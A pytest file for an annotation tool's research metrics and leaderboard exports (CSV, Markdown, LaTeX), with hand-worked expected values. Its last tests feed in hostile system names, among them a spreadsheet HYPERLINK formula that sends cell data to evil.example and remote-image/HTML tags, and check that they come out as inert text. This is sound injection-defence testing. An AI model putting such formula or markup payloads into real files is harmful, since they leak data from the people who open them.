"""Research metrics (issue 9), each worked out by hand in the comments."""

from __future__ import annotations

import pytest

from annotator.domain.metrics import ScoredItem
from annotator.domain.output_text import latex_escape
from annotator.domain.research_metrics import (
    accuracy,
    bootstrap_accuracy,
    coverage_scores,
    leaderboard_rows,
    macro_accuracy,
    paired_bootstrap,
    significance_rows,
)
from annotator.evaluation.leaderboard import (
    LEADERBOARD_COLUMNS,
    leaderboard_csv,
    leaderboard_latex,
    leaderboard_markdown,
    significance_csv,
    significance_markdown,
)

# 6 GOOD, 2 BAD, 2 MISS
OUTCOMES = ["GOOD"] * 6 + ["BAD"] * 2 + ["MISS"] * 2


def test_mucow_coverage_precision_recall_f1_by_hand():
    scores = coverage_scores(OUTCOMES)
    assert scores.coverage == pytest.approx(0.8)  # (6 + 2) / 10
    assert scores.precision == pytest.approx(0.75)  # 6 / (6 + 2)
    assert scores.recall == pytest.approx(0.75)  # 6 / (6 + 2 MISS): MuCoW's "RecallA"
    assert scores.f1 == pytest.approx(0.75)  # 2 * .75 * .75 / 1.5
    skewed = coverage_scores(["GOOD"] * 3 + ["BAD"] + ["MISS"] * 5)
    # P = 3/4, R = 3/8, F1 = 2 * (3/4) * (3/8) / (3/4 + 3/8) = (9/16) / (9/8) = 1/2
    assert skewed.f1 == pytest.approx(0.5)
    assert coverage_scores(["MISS"]).precision is None and coverage_scores(["MISS"]).f1 is None


def test_macro_accuracy_averages_senses_not_items():
    results = [("s1", "GOOD")] * 3 + [("s1", "BAD")] + [("s2", "BAD")] * 2 + [("s3", "MISS")]
    # s1: 3/4 = .75, s2: 0/2 = 0, s3 only MISS -> left out; macro = (.75 + 0) / 2 = .375; micro = 3/6 = .5
    assert macro_accuracy(results) == pytest.approx(0.375)
    assert accuracy([o for _, o in results]) == pytest.approx(0.5)
    assert macro_accuracy([("s", "MISS")]) is None


def test_bootstrap_interval_contains_the_point_and_is_reproducible():
    interval = bootstrap_accuracy(OUTCOMES, resamples=500, seed=7)
    assert interval.point == pytest.approx(0.75)
    assert interval.low is not None and interval.high is not None
    assert interval.low <= 0.75 <= interval.high
    assert interval.low < interval.high  # 8 scored items: the accuracy does vary
    assert bootstrap_accuracy(OUTCOMES, resamples=500, seed=7) == interval
    # all GOOD: every resample has accuracy 1, so the interval collapses to [1, 1]
    solid = bootstrap_accuracy(["GOOD"] * 5 + ["MISS"], resamples=200, seed=1)
    assert (solid.low, solid.high) == (1.0, 1.0)


def test_paired_bootstrap_identical_systems_give_p_one_and_a_clear_gap_a_small_p():
    same = paired_bootstrap(OUTCOMES, OUTCOMES, resamples=300, seed=3)
    assert same.delta == 0 and same.p_value == pytest.approx(1.0)
    better = ["GOOD"] * 40
    worse = ["GOOD"] * 10 + ["BAD"] * 30
    # delta = 1 - 10/40 = .75; a resample only reaches |delta* - .75| >= .75 if system B scores 100 %, i.e. drew none
    # of its 30 BAD items out of 40 draws: (10/40)^40, never in 300 resamples
    gap = paired_bootstrap(better, worse, resamples=300, seed=3)
    assert gap.delta == pytest.approx(0.75) and gap.p_value is not None and gap.p_value < 0.01
    with pytest.raises(ValueError):
        paired_bootstrap(["GOOD"], ["GOOD", "BAD"])


def _item(system: str, lang: str, outcome: str, pos: str = "NOUN") -> ScoredItem:
    return ScoredItem(system, lang, pos, outcome, sense_rank=1, polysemy_degree=3)


def test_leaderboard_as_csv_markdown_and_booktabs_latex():
    items = [_item("A_1", "IT", o) for o in ("GOOD", "GOOD", "GOOD", "BAD")] + [_item("B", "IT", "MISS")]
    senses = ["s1", "s1", "s2", "s2", "s1"]
    rows = leaderboard_rows(items, senses, resamples=50, seed=1)
    first = rows[0]
    assert (first["system"], first["lang"], first["pos"]) == ("A_1", "IT", "ALL")
    assert first["Accuracy"] == "75.00"  # 3 / 4
    assert first["macro Acc"] == "75.00"  # s1: 2/2 = 1, s2: 1/2 -> (1 + .5) / 2
    assert first["coverage"] == "100.00" and first["F1"] == "85.71"  # P .75, R 3/3 = 1 -> 2*.75/1.75 = .857142
    b_row = next(r for r in rows if r["system"] == "B" and r["pos"] == "ALL")
    assert b_row["Accuracy"] == "" and b_row["%MISS"] == "100.00" and b_row["coverage"] == "0.00"
    csv_text = leaderboard_csv(rows)
    assert csv_text.splitlines()[0] == ",".join(LEADERBOARD_COLUMNS)
    assert csv_text.splitlines()[1].startswith("A_1,IT,ALL,4,75.00,")
    markdown = leaderboard_markdown(rows)
    assert markdown.splitlines()[1].startswith("|---|---|---|---:|")
    assert "| A\\_1 | IT | ALL | 4 | 75.00 |" in markdown and "| B | IT | ALL | 1 | – |" in markdown
    latex = leaderboard_latex(rows)
    assert latex.startswith("\\begin{tabular}{lll" + "r" * 14 + "}\n\\toprule\n")
    assert "A\\_1 & IT & ALL & 4 & 75.00" in latex and "\\bottomrule\n\\end{tabular}" in latex
    # rows run A·IT, B·IT, A·all languages, B·all languages, overall: a rule after the header and at 4 system changes
    assert latex.count("\\midrule") == 1 + 4
    assert latex_escape("50% R&D_x") == "50\\% R\\&D\\_x"


def test_cli_writes_the_leaderboard_files(tmp_path):
    import json

    from annotator.cli import main

    record = {
        "id": "i1", "sentence": "He took a shot.", "gloss": "", "source": "t",
        "target": {"text": "shot", "start": 10, "end": 14, "lemma": "shot", "pos": "NOUN"},
        "synset": "bn:1n", "polysemy_degree": 2, "sense_rank": 1,
        "senses": [{"synset": "bn:1n", "rank": 1}, {"synset": "bn:2n", "rank": 2}],
        "languages": {"IT": {"good": [{"text": "goccio", "pos": None, "origin": "lexicon", "synsets": ["bn:1n"]}],
                             "bad": [{"text": "sparo", "pos": None, "origin": "lexicon", "synsets": ["bn:2n"]}]}},
    }  # fmt: skip
    dataset = tmp_path / "dataset.jsonl"
    dataset.write_text(json.dumps(record) + "\n", encoding="utf-8")
    mt = tmp_path / "mt.jsonl"
    pairs = (("a", "Un goccio."), ("b", "Uno sparo."))
    lines = [{"id": "i1", "lang": "IT", "system": s, "translation": t} for s, t in pairs]
    mt.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    assert main(["evaluate", str(dataset), str(mt), "--out", str(tmp_path / "o"), "--leaderboard"]) == 0
    csv_lines = (tmp_path / "o" / "leaderboard.csv").read_text(encoding="utf-8").splitlines()
    assert csv_lines[1].startswith("a,IT,ALL,1,100.00,100.00,100.00,100.00,0.00")
    assert csv_lines[3].startswith("b,IT,ALL,1,0.00,0.00,0.00,0.00,0.00")
    assert "\\toprule" in (tmp_path / "o" / "leaderboard.tex").read_text(encoding="utf-8")
    assert "| a | IT | ALL | 1 | 100.00 |" in (tmp_path / "o" / "leaderboard.md").read_text(encoding="utf-8")


def test_significance_rows_compare_each_pair_on_the_items_both_translated():
    outcomes = [
        ("a", "1", "DE", "GOOD"), ("a", "2", "DE", "GOOD"), ("a", "3", "DE", "BAD"), ("a", "4", "IT", "GOOD"),
        ("b", "1", "DE", "BAD"), ("b", "2", "DE", "GOOD"), ("b", "3", "DE", "BAD"), ("b", "4", "IT", "GOOD"),
        ("b", "9", "DE", "GOOD"),  # only b translated item 9: left out of the paired comparison
        ("c", "1", "DE", "GOOD"), ("c", "2", "DE", "GOOD"), ("c", "3", "DE", "BAD"), ("c", "4", "IT", "GOOD"),
    ]  # fmt: skip
    rows = significance_rows(outcomes, resamples=200, seed=5)
    keyed = {(r["system A"], r["system B"], r["lang"]): r for r in rows}
    assert list(keyed) == [
        ("a", "b", "DE"), ("a", "b", "IT"), ("a", "b", "ALL"),
        ("a", "c", "DE"), ("a", "c", "IT"), ("a", "c", "ALL"),
        ("b", "c", "DE"), ("b", "c", "IT"), ("b", "c", "ALL"),
    ]  # fmt: skip
    # a vs b on DE items 1–3: a 2/3, b 1/3 → Δ = 33.33 points; item 9 is not counted
    assert keyed[("a", "b", "DE")]["n"] == "3"
    assert (keyed[("a", "b", "DE")]["Acc A"], keyed[("a", "b", "DE")]["Acc B"]) == ("66.67", "33.33")
    assert keyed[("a", "b", "DE")]["ΔAcc"] == "33.33"
    assert keyed[("a", "b", "ALL")]["n"] == "4" and keyed[("a", "b", "ALL")]["ΔAcc"] == "25.00"  # 3/4 − 2/4
    # a and c are identical: Δ = 0 and p = 1
    assert keyed[("a", "c", "ALL")]["ΔAcc"] == "0.00" and keyed[("a", "c", "ALL")]["p"] == "1.0000"
    assert "| a | b | DE | 3 † |" in significance_markdown(rows)
    assert significance_csv(rows).splitlines()[0] == "system A,system B,lang,n,Acc A,Acc B,ΔAcc,p"


#: System names a user may hand in: a spreadsheet formula, a remote image and HTML for a Markdown viewer, a newline.
HOSTILE_SYSTEMS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "![x](http://evil.example/x.png)",
                   '<img src="http://evil.example/h.png">', "two\nlines | cell", "@SUM(1)", "-2+3", "ok")  # fmt: skip


def _hostile_rows() -> list[dict[str, str]]:
    items = [_item(system, "IT", outcome) for system in HOSTILE_SYSTEMS for outcome in ("GOOD", "BAD")]
    return leaderboard_rows(items, resamples=20, seed=1, by_pos=False)


def _assert_csv_keeps_names_as_text(text: str, name_columns: tuple[str, ...], expected_rows: int) -> None:
    import csv
    import io

    records = list(csv.DictReader(io.StringIO(text)))
    assert len(records) == expected_rows  # a newline inside a name does not split a row
    for record in records:
        for column in name_columns:
            value = record[column]
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value  # no live formula
    names = {record[name_columns[0]] for record in records}
    assert "'" + HOSTILE_SYSTEMS[0] in names and "'@SUM(1)" in names and "'-2+3" in names and "ok" in names


def _assert_markdown_keeps_names_literal(markdown: str, expected_rows: int) -> None:
    lines = markdown.split("\n\n")[0].splitlines()  # the table; a warning may follow after a blank line
    assert len(lines) == 2 + expected_rows  # header, rule, one line per row
    assert all(line.startswith("| ") and line.endswith(" |") for line in lines[2:])
    import re

    assert not re.search(r"(?<!\\)[<>\[\]]", markdown)  # no tag, image or link a viewer would act on
    assert "!\\[x\\](http://evil.example/x.png)" in markdown  # shown, not loaded
    assert "two lines \\| cell" in markdown


def test_leaderboard_files_keep_hostile_system_names_as_text():
    rows = _hostile_rows()
    _assert_csv_keeps_names_as_text(leaderboard_csv(rows), ("system", "lang", "pos"), len(rows))
    _assert_markdown_keeps_names_literal(leaderboard_markdown(rows), len(rows))
    # numbers keep their sign: only name columns are neutralised
    assert all(not cell.startswith("'") for row in rows for key, cell in row.items() if key not in ("system",))


def test_significance_files_keep_hostile_system_names_as_text():
    outcomes = [(system, str(i), "IT", "GOOD" if i <= k % 3 else "BAD") for k, system in enumerate(HOSTILE_SYSTEMS)
                for i in range(4)]  # fmt: skip
    rows = significance_rows(outcomes, resamples=20, seed=1)
    assert len(rows) == len(HOSTILE_SYSTEMS) * (len(HOSTILE_SYSTEMS) - 1) // 2
    assert any(row["ΔAcc"].startswith("-") for row in rows)
    text = significance_csv(rows)
    _assert_csv_keeps_names_as_text(text, ("system A", "system B", "lang"), len(rows))
    assert any(",-" in line for line in text.splitlines())  # a negative ΔAcc stays a number
    _assert_markdown_keeps_names_literal(significance_markdown(rows), len(rows))
